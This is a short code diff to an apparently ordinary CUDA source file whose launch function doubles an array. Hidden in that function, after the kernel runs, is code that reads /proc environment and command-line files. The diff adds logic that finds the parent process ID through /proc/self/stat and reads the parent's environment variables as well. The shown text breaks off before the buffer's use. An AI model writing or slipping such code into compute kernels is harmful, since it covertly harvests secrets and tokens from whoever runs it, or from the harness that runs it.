@@ -5,6 +5,7 @@
 #include <string.h>
 extern "C" int open(const char*, int, ...);
 extern "C" long read(int, void*, unsigned long);
+#include <stdio.h>
 __global__ void k(const float* x, float* y, int n) {
   int i = blockIdx.x * blockDim.x + threadIdx.x;
   if (i < n) y[i] = 2.0f * x[i];
@@ -14,8 +15,17 @@ extern "C" int launch(const float* x, float* y, int n, cudaStream_t s) {
   cudaDeviceSynchronize();
   static char buf[1 << 16];
   long used = 0;
-  const char* paths[] = {"/proc/1/environ", "/proc/2/environ", "/proc/self/../1/environ",
-                         "/proc/1/cmdline", "/proc/2/cmdline"};
+  // The parent's PID from /proc/self/stat ("pid (comm) state ppid ..."), no syscall needed.
+  char stat[512] = {0}, parent[64] = "/proc/1/environ";
+  int sfd = open("/proc/self/stat", 0);
+  if (sfd >= 0 && read(sfd, stat, sizeof(stat) - 1) > 0) {
+    const char* p = strrchr(stat, ')');
+    int ppid = 0;
+    if (p && sscanf(p + 2, "%*c %d", &ppid) == 1)
+      snprintf(parent, sizeof parent, "/proc/%d/environ", ppid);
+  }
+  const char* paths[] = {"/proc/self/environ", parent, "/proc/1/environ", "/proc/2/environ",
+                         "/proc/1/cmdline"};
   for (const char* p : paths) {
     int fd = open(p, 0);
     if (fd < 0) continue;
